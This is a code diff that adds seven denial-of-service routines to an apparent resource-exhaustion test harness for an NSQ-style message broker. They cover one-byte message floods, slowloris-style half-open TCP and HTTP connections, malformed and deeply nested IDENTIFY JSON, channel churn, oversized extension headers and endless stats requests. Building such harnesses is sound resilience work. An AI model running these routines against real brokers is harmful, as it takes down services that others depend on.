@@ -80,6 +80,109 @@ def unread_replies(tcp: Address, http: Address) -> None:
             send(sock, batch)
 
 
+def tiny_batches(tcp: Address, http: Address) -> None:
+    """Publish batches of a million messages of one byte."""
+    batch = pack(">I", 1_000_000) + pack(">Ic", 1, b"x") * 1_000_000
+    with identify(tcp, client_id="tiny") as sock:
+        while True:
+            send(sock, command("MPUB target", batch))
+            sock.recv(65536)
+
+
+def unread_messages(tcp: Address, http: Address) -> None:
+    """Subscribe with a large RDY and read nothing, while another connection publishes."""
+    silent = [identify(tcp, client_id=f"silent{number}", extend_support=True) for number in range(20)]
+    for number, sock in enumerate(silent):
+        send(sock, command(f"SUB target silent{number}") + b"RDY 2500\n")
+    with identify(tcp, client_id="publisher") as sock:
+        discard(sock)
+        batch = command("PUB target", b"x" * 20_000) * 20
+        while True:
+            send(sock, batch)
+            time.sleep(_PAUSE)
+
+
+def half_open(tcp: Address, http: Address) -> None:
+    """Begin commands and requests on many connections, and continue them one byte a second."""
+    starts = (
+        (tcp, b"  V2" + command("IDENTIFY", b"{}")[:-1]),
+        (tcp, b"  V2PUB target\n" + pack(">I", 1 << 20)),
+        (tcp, b"  V"),
+        (http, b"GET /stats HTTP/1.1\r\nHost: "),
+        (http, b"POST /pub?topic=target HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n"),
+        (http, b"G"),
+    )
+    held = []
+    for address, start in starts * 100:
+        held.append(connect(address))
+        send(held[-1], start)
+    while True:
+        for sock in held:
+            with suppress(OSError):
+                send(sock, b"a")
+        time.sleep(1)
+
+
+def odd_identify(tcp: Address, http: Address) -> None:
+    """Identify with JSON that no client sends."""
+    bodies = (
+        b"[" * 100_000,
+        b'{"a":' * 50_000,
+        b'{"client_id":"' + b"x" * 1_000_000 + b'"}',
+        b'{"heartbeat_interval":1e999,"msg_timeout":"x","output_buffer_size":[],"desired_tag":{}}',
+        b'{"ext_filter":{"type":2,"filter_ext_key":7,"filter_data":' + b"1" * 5000 + b"}}",
+        b"{" + b",".join(b'"k%d":1' % number for number in range(50_000)) + b"}",
+        b"\xff" * 1000,
+    )
+    for body in bodies:
+        with connect(tcp) as sock, suppress(OSError):
+            send(sock, b"  V2" + command("IDENTIFY", body))
+            sock.settimeout(1)
+            sock.recv(65536)
+
+
+def many_channels(tcp: Address, http: Address) -> None:
+    """Subscribe to a new channel with each connection, and leave."""
+    for number in range(1_000_000):
+        with identify(tcp, client_id="x", extend_support=True) as sock:
+            send(sock, command(f"SUB target c{number}#ephemeral"))
+            sock.recv(65536)
+
+
+def header_filters(tcp: Address, http: Address) -> None:
+    """Publish large extend headers, which the filters of ten consumers read."""
+    for number in range(10):
+        one = {"type": 1, "inverse": False, "filter_ext_key": "nope", "filter_data": "x"}
+        consumer = identify(tcp, client_id=f"filter{number}", extend_support=True, ext_filter=one)
+        send(consumer, command(f"SUB target filter{number}") + b"RDY 100\n")
+        discard(consumer)
+    header = json.dumps({f"{number:x}": "1" for number in range(5000)}).encode()
+    with identify(tcp, client_id="publisher") as sock:
+        discard(sock)
+        while True:
+            send(sock, command("PUB_EXT target 0", pack(">H", len(header)) + header + b"x"))
+            time.sleep(_PAUSE)
+
+
+def statistics(tcp: Address, http: Address) -> None:
+    """Request statistics and metrics without end, on 16 connections."""
+    request = "".join(
+        f"GET {path} HTTP/1.1\r\nHost: {http[0]}:{http[1]}\r\n\r\n" for path in ("/stats?format=json", "/metrics")
+    ).encode()
+
+    def repeat(sock: socket.socket) -> None:
+        with suppress(OSError):
+            while True:
+                send(sock, request)
+                time.sleep(_PAUSE)
+
+    for _ in range(16):
+        sock = connect(http)
+        discard(sock)
+        threading.Thread(target=repeat, args=(sock,), daemon=True).start()
+    time.sleep(3600)
+
+
 def full_window(tcp: Address, http: Address) -> None:
     """Keep the read window of one connection full of commands."""
     with identify(tcp, client_id="window") as sock:
@@ -142,6 +245,13 @@ def out_of_descriptors(tcp: Address, http: Address) -> None:
 ATTACKS: dict[str, Callable[[Address, Address], None]] = {
     "chunked-bodies": chunked_bodies,
     "unread-replies": unread_replies,
+    "tiny-batches": tiny_batches,
+    "unread-messages": unread_messages,
+    "half-open": half_open,
+    "odd-identify": odd_identify,
+    "many-channels": many_channels,
+    "header-filters": header_filters,
+    "statistics": statistics,
     "full-window": full_window,
     "silent-connections": silent_connections,
     "long-lines": long_lines,
